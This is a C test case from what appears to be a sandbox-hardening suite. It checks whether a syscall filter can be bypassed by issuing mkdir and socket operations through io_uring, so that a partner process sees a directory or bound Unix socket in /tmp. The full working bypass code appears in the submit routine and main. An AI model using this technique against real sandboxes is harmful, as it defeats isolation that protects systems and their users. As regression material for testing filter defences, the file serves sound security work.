/* Case: C221 uring-pair
 * Attacks: syscall-filter
 * Seen: isolate before 2.4
 * Run: mkdir beside => denied io_uring_setup / held
 * Run: socket beside => denied io_uring_setup / held
 * Undefended: through
 * Control: makes a directory the plain way
 *
 * What the filter denies is asked of a ring instead, which no filter sees: a directory where others look, and a socket on a
 * name that others know. */
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>

#include "pair.h"

#define NAME "/tmp/by-ring"

/* One request on a ring of its own; its result. */
static int submit(struct io_uring_sqe *request)
{
	struct io_uring_params p = { 0 };
	int fd = (int)syscall(SYS_io_uring_setup, 1, &p);
	if (fd < 0)
		return -1;
	char *sq = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQ_RING);
	char *cq = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_CQ_RING);
	struct io_uring_sqe *e = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || e == MAP_FAILED)
		return -1;
	e[0] = *request;
	((unsigned *)(void *)(sq + p.sq_off.array))[0] = 0;
	__atomic_store_n((unsigned *)(void *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1)
		return -1;
	return ((struct io_uring_cqe *)(void *)(cq + p.cq_off.cqes))[0].res;
}

int main(int argc, char **argv)
{
#ifdef CONTROL
	(void)argc, (void)argv, (void)submit;
	return mkdir("/box/d", 0700) == 0 ? fine() : 1;
#endif
	struct io_uring_sqe e = {
		.opcode = IORING_OP_MKDIRAT, .fd = AT_FDCWD, .addr = (uint64_t)(uintptr_t)NAME, .len = 0777
	};
	struct sockaddr_un un = { .sun_family = AF_UNIX, .sun_path = NAME };
	if (sends(argc, argv)) {
		if (way_is(argc, argv, "socket"))
			e = (struct io_uring_sqe){
				.opcode = 45 /* IORING_OP_SOCKET */, .fd = AF_UNIX, .off = SOCK_STREAM
			};
		int r = submit(&e);
		if (r >= 0 && way_is(argc, argv, "socket"))
			r = bind(r, (struct sockaddr *)&un, sizeof un);
		return r < 0 ? 1 : hold();
	}
	for (int i = 0; i < TRIES; i++, pause_a_little())
		if (access(NAME, F_OK) == 0)
			GOT("what a ring has made");
	return HELD;
}
